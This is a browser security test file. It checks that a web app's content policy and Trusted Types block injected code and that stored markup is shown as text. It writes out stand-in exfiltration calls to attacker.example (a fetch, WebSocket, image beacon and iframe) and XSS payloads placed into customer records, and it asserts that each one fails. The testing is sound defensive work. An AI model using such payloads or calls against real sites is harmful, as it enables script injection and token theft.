/**
 * Attacks on the app as delivered, with its headers, content policy and Trusted Types. None may succeed, and the browser must
 * report each of them and nothing else.
 */
import type { Page } from "playwright-core";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { openPages } from "../support/pages.ts";
import { takeSession } from "../support/session.ts";

const { backend, visit } = await openPages(test);

interface Watching {
  /** Set by an attack that succeeds. */
  hacked?: boolean;
  /** Violated directives of the content policy, in order. */
  reports?: string[];
}

/** A visitor whose pages record policy violations, with that account's session. */
async function watchful(email?: string) {
  const visitor = await visit();
  await visitor.page.addInitScript(() => {
    const watching = globalThis as Watching;
    const reports: string[] = [];
    watching.reports = reports;
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      if (reports.at(-1) !== effectiveDirective) reports.push(effectiveDirective);
    });
  });
  if (email) await takeSession(visitor.page, backend, email);
  return visitor;
}

/** The reports since the last call. */
const takeReports = (page: Page) =>
  page.evaluate(async () => {
    // Reports arrive in tasks of their own, all of them within two frames.
    await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
    return (globalThis as Watching).reports?.splice(0) ?? [];
  });

const wasHacked = (page: Page) => page.evaluate(() => (globalThis as Watching).hacked === true);

/**
 * What an injected script or markup might do, by the directive that blocks it. hosting/securityHeaders holds the directives that
 * name no address.
 */
const attempts: readonly (readonly [forbids: string, run: () => unknown])[] = [
  [
    "require-trusted-types-for",
    () => {
      const script = document.createElement("script");
      script.textContent = "globalThis.hacked = true";
      document.body.append(script);
    },
  ],
  [
    "trusted-types",
    () => {
      const page = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      page.trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
    },
  ],
  ["connect-src", () => fetch("https://attacker.example/?token")],
  ["connect-src", () => new WebSocket("wss://attacker.example/")],
  [
    "img-src",
    () => {
      new Image().src = "https://attacker.example/?token";
    },
  ],
  [
    "frame-src",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://attacker.example/";
      document.body.append(frame);
    },
  ],
];

test("injected code neither runs nor sends anything, also after the narrowed policy's element is removed", async () => {
  const { page } = await watchful();
  await page.goto("/auth/login");
  // The policy is narrowed before the first request to an address from config.json.
  await page.waitForFunction(
    () => document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length > 1,
  );
  assert.equal(await takeReports(page), [], "starting the app violates nothing");
  for (const [forbids, run] of attempts) {
    await page.evaluate(run).catch(() => {}); // blocked calls may throw
    // Another process refuses a frame's address, so its report comes at any time.
    await page.waitForFunction(() => ((globalThis as Watching).reports?.length ?? 0) > 0);
    assert.equal(await takeReports(page), [forbids], `${run}`);
    assert.not(await wasHacked(page), forbids);
  }
  await page.evaluate(() => {
    for (const policy of document.querySelectorAll("meta[http-equiv]")) policy.remove();
    return fetch("https://attacker.example/").catch(() => {});
  });
  assert.equal(await takeReports(page), ["connect-src"]);
});

test("markup in names and values is shown as text", async () => {
  const markup = `<img src=x onerror="globalThis.hacked=true">'"><script>globalThis.hacked=true</script>`;
  const of = backend.world.customers.find(({ assets }) => assets.length > 0);
  const asset = of?.assets[0];
  const field = asset?.fields[0];
  assert.ok(of && asset && field);
  of.name = markup;
  asset.assettype_name = markup;
  field.value = "javascript:globalThis.hacked=true";
  const visitor = await watchful("admin@nordwind.example");
  const { page } = visitor;
  await page.goto("/admin/customers?search=%3Cimg");
  await page.getByRole("link", { name: markup }).first().click();
  await page.getByRole("heading", { level: 1, name: markup }).waitFor();
  await page.getByRole("link", { name: markup }).first().click();
  await page.getByText(field.value).first().waitFor();
  assert.is(await page.locator('a[href^="javascript"]').count(), 0);
  assert.equal(await takeReports(page), []);
  assert.not(await wasHacked(page));
  visitor.complainsOnlyOf();
});

test.run();
